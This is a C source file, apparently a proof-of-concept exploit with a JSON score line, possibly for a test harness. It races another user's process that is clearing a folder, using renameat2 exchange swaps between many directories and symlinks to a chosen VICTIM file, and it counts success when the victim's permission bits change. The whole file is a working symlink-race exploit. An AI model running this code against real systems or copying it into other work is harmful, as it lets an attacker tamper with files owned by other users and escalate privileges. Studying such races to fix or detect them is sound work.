/* Swaps folders for links to VICTIM while another user's process clears FOLDER, ROUNDS times.
   A process that opens, changes or removes by name then meets the link instead of the folder. */
#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <unistd.h>

#define NAMES 500
#define WAITS 10000
#define EXCHANGE 2

int main(void) {
  char folders[NAMES][16], links[NAMES][16], inner[32];
  struct stat found;
  int rounds = 0, waits = 0;
  long swaps = 0;
  for (int i = 0; i < NAMES; i++) {
    sprintf(folders[i], "d%d", i);
    sprintf(links[i], "l%d", i);
  }
  while (rounds < ROUNDS && waits < WAITS) {
    if (stat(FOLDER, &found) || mkdir(FOLDER "/B", 0777)) {
      waits++;
      usleep(200);
      continue;
    }
    chmod(FOLDER "/B", 0777);
    int fd = open(FOLDER "/B", O_RDONLY | O_DIRECTORY);
    if (fd < 0) continue;
    for (int i = 0; i < NAMES; i++) {
      mkdirat(fd, folders[i], 0777);
      sprintf(inner, "%s/x", folders[i]);
      mkdirat(fd, inner, 0777);
      symlinkat(VICTIM, fd, links[i]);
    }
    close(open(FOLDER "/B/ready", O_CREAT | O_WRONLY, 0666));
    rounds++;
    for (int tries = 0; tries < 2000; tries++) {
      int swapped = 0;
      for (int i = 0; i < NAMES; i++)
        if (!syscall(SYS_renameat2, fd, folders[i], fd, links[i], EXCHANGE)) swapped++;
      swaps += swapped;
      if (!swapped) break; /* the folder is cleared */
      if (!stat(VICTIM, &found) && (found.st_mode & 0777) != 0644) rounds = ROUNDS;
    }
    close(fd);
  }
  printf("{\"score\": 1, \"details\": {\"rounds\": %d, \"swaps\": %ld}}\n", rounds, swaps);
}
